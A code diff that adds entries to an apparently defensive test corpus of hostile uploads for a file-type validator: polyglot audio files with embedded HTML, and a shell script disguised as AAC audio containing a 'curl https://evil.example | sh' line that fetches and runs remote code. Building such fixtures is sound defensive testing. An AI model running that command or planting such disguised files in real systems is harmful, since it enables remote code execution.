@@ -292,6 +292,16 @@ export async function hostileCorpus(): Promise<HostileFile[]> {
       "a WAVE header followed by an HTML page",
       Buffer.concat([Buffer.from("RIFF\x00\x10\x00\x00WAVE", "latin1"), html()]),
     ),
+    accepted(
+      "file",
+      "voice.m4a",
+      "voice.m4a",
+      "an M4A header followed by an HTML page",
+      Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from("ftypM4A "), html()]),
+    ),
+    accepted("file", "take.ogg", "take.ogg", "an Ogg page header followed by an HTML page", Buffer.concat([Buffer.from("OggS\x00\x02", "latin1"), html()])),
+    refusedType("song.ogg", "an HTML page named as Ogg audio", html()),
+    refusedType("track.aac", "a shell script named as AAC audio", Buffer.from("#!/bin/sh\ncurl https://evil.example | sh\n")),
     accepted("file", "bomb.zip", "bomb.zip", "a zip bomb (50 MB of zeros in a few KB), stored and never unpacked", zipBomb(50_000_000)),
     {
       name: "bomb.png",
